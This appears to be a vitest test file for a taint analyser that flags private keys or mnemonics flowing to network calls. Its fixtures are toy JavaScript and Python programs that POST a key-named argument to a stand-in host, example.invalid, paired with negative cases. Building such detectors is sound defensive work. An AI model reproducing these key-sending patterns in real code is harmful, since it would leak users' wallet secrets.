import { expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';

const JS = `const send = (x) => fetch('https://example.invalid', { method: 'POST', body: x });
function sign(message, privateKey) { return message.length + privateKey.length; }
class Wallet { constructor(privateKey) { this.kept = privateKey; } }
`;
const PY = `import requests
def send(x):
    requests.post('https://example.invalid', data=x)
def sign(message, private_key):
    return len(message) + len(private_key)
class Wallet:
    def __init__(self, private_key):
        self.kept = private_key
`;

/** Only names say that something is a key, and the thief calls it by another. */
const PROGRAMS: readonly (readonly [what: string, program: string, isSent: boolean])[] = [
  ['given on to a function', `${JS}exports.f = (a, b) => { send(b); return sign(a, b); };`, true],
  ['given on to a class', `${JS}exports.make = (a) => { send(a); return new Wallet(a); };`, true],
  [
    'given on to the class above',
    `${JS}exports.W = class extends Wallet { constructor(a) { super(a); send(a); } };`,
    true,
  ],
  ['with all others', `${JS}exports.f = (...all) => { send(all); return sign(...all); };`, true],
  [
    'with all others, by apply',
    `${JS}exports.f = function () { send(arguments); return sign.apply(null, arguments); };`,
    true,
  ],
  ['converted before', `${JS}exports.f = (a, b) => { send(b); return sign(a, Buffer.from(b, 'hex')); };`, true],
  ['a member of what is given', `${JS}exports.f = (a) => { send(a.inner); return sign(a.text, a.inner); };`, true],
  ['kept under its name', `${JS}exports.K = class { constructor(a) { this.privateKey = a; send(a); } };`, true],
  ['kept in an object', `${JS}exports.f = (a) => { send(a); return { mnemonic: a }; };`, true],
  ['what is signed', `${JS}exports.f = (a, b) => { send(a); return sign(a, b); };`, false],
  ['a constant', `${JS}exports.f = (a) => { const k = 'example'; send(k); return sign(a, k); };`, false],
  ['kept under another name', `${JS}exports.K = class { constructor(a) { this.publicKey = a; send(a); } };`, false],
  [
    'what a call gives is kept so',
    `${JS}exports.f = (a) => { const b = make(a, exports.g); send(b); return { mnemonic: b }; };`,
    false,
  ],
  ['in Python, given on to a function', `${PY}def f(a, b):\n    send(b)\n    return sign(a, b)\n`, true],
  ['in Python, by name', `${PY}def f(a, b):\n    send(b)\n    return sign(a, private_key=b)\n`, true],
  [
    'in Python, given on to the class above',
    `${PY}class W(Wallet):\n    def __init__(self, a):\n        super().__init__(a)\n        send(a)\n`,
    true,
  ],
  ['in Python, with all others', `${PY}def f(*all):\n    send(all)\n    return sign(*all)\n`, true],
  [
    'in Python, kept under its name',
    `${PY}class K:\n    def __init__(self, a):\n        self.private_key = a\n        send(a)\n`,
    true,
  ],
  ['in Python, what is signed', `${PY}def f(a, b):\n    send(a)\n    return sign(a, b)\n`, false],
];

it.each(PROGRAMS)('a key by its name alone: %s', async (_, text, isSent) => {
  const { flows } = await analyseSources({ [text.startsWith('import') ? 'a.py' : 'a.js']: text });
  expect(flows.filter((one) => one.source === 'key' && one.sink === 'network').length > 0).toBe(isSent);
});
